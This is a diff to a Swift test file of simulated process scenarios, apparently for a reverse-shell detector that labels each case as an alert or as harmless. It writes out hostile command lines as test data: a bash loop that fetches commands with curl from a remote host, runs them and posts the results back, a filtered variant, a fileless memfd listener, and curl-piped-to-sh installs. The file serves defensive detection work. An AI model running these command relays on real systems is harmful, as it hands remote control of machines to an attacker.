@@ -244,6 +244,41 @@ extension Scenario {
       s.receive(nc, s.connect(nc), "whoami\n")
       s.run("sh", "-c", "whoami", below: sh, streams: [pipe, Stream.null, Stream.null])
     },
+    .alert("reverse-shell.command-relay", .critical, "a loop asks with curl what to do") { s in
+      let loop = s.run(
+        "bash", "-c", "while :; do c=$(curl -s h/job); sh -c \"$c\" | curl --data-binary @- h/done; done")
+      let curl = s.run("curl", "-s", "http://h/job", below: loop, streams: [Stream.null, s.pipe(), Stream.null])
+      s.receive(curl, s.connect(curl), "HTTP/1.0 200 OK\r\n\r\nuname -a\n")
+      s.exit(curl)
+      s.run("sh", "-c", "uname -a", below: loop, streams: [Stream.null, s.pipe(), Stream.null])
+    },
+    .alert("reverse-shell.command-relay", .critical, "the same through a filter") { s in
+      let loop = s.run("sh", "-c", "sh -c \"$(curl -s h/job | tr -d x)\"")
+      let pipe = s.pipe()
+      let curl = s.run("curl", "-s", "http://h/job", below: loop, streams: [Stream.null, pipe, Stream.null])
+      let filter = s.run("tr", "-d", "x", below: loop, streams: [pipe, s.pipe(), Stream.null])
+      s.receive(curl, s.connect(curl), "HTTP/1.0 200 OK\r\n\r\ncat /etc/hostname\n")
+      s.exit(curl)
+      s.exit(filter)
+      s.run("sh", "-c", "cat /etc/hostname", below: loop)
+    },
+    .harmless("reverse-shell.command-relay", "curl | sh, when curl has ended") { s in
+      let outer = s.run("bash", "-c", "curl h | sh")
+      let pipe = s.pipe()
+      let curl = s.run("curl", "h", below: outer, streams: [Stream.null, pipe, Stream.null])
+      let sh = s.run("sh", below: outer, streams: [pipe, s.pipe(), s.pipe()])
+      s.receive(curl, s.connect(curl), "#!/bin/sh\nuname -s\nmkdir -p /opt/tool\n")
+      s.exit(curl)
+      s.run("uname", "-s", below: sh, streams: [pipe, s.pipe(), s.pipe()])
+      s.run("mkdir", "-p", "/opt/tool", below: sh, streams: [pipe, s.pipe(), s.pipe()])
+    },
+    .harmless("reverse-shell.command-relay", "a script asks for a version") { s in
+      let script = s.run("bash", "/opt/install.sh")
+      let curl = s.run("curl", "-s", "https://h/version", below: script, streams: [Stream.null, s.pipe(), Stream.null])
+      s.receive(curl, s.connect(curl), "HTTP/1.1 200 OK\r\n\r\n1.27.3\n")
+      s.exit(curl)
+      s.run("tar", "xf", "tool-1.27.3.tgz", below: script)
+    },
     .harmless("reverse-shell.command-relay", "a CGI script is called by its path") { s in
       let server = s.run("thttpd")
       s.listen(server, 80)
@@ -279,6 +314,18 @@ extension Scenario {
       let implant = s.run("/tmp/.cache/agent", below: s.run("nginx")) { $0.isDropped = true }
       s.connect(implant, "203.0.113.66", 443)
       s.run("whoami", below: implant)
+    },
+    .harmless("reverse-shell.implant", "a small server on a command line", atMost: .medium) { s in
+      let node = s.run("node", "-e", "http.createServer((q, r) => exec('uptime')).listen(80)")
+      s.listen(node, 80)
+      s.accept(80)
+      s.run("sh", "-c", "uptime", below: node)
+    },
+    .alert("reverse-shell.implant", .high, "a server without a file") { s in
+      let hidden = s.run("x", program: "/memfd:x") { $0.isNameless = true }
+      s.listen(hidden, 80)
+      s.accept(80)
+      s.run("sh", "-c", "uptime", below: hidden)
     },
     .harmless("reverse-shell.implant", "a one-liner that waits for a database") { s in
       let wait = s.run("python3", "-c", "import socket; socket.create_connection(('db', 5432))")
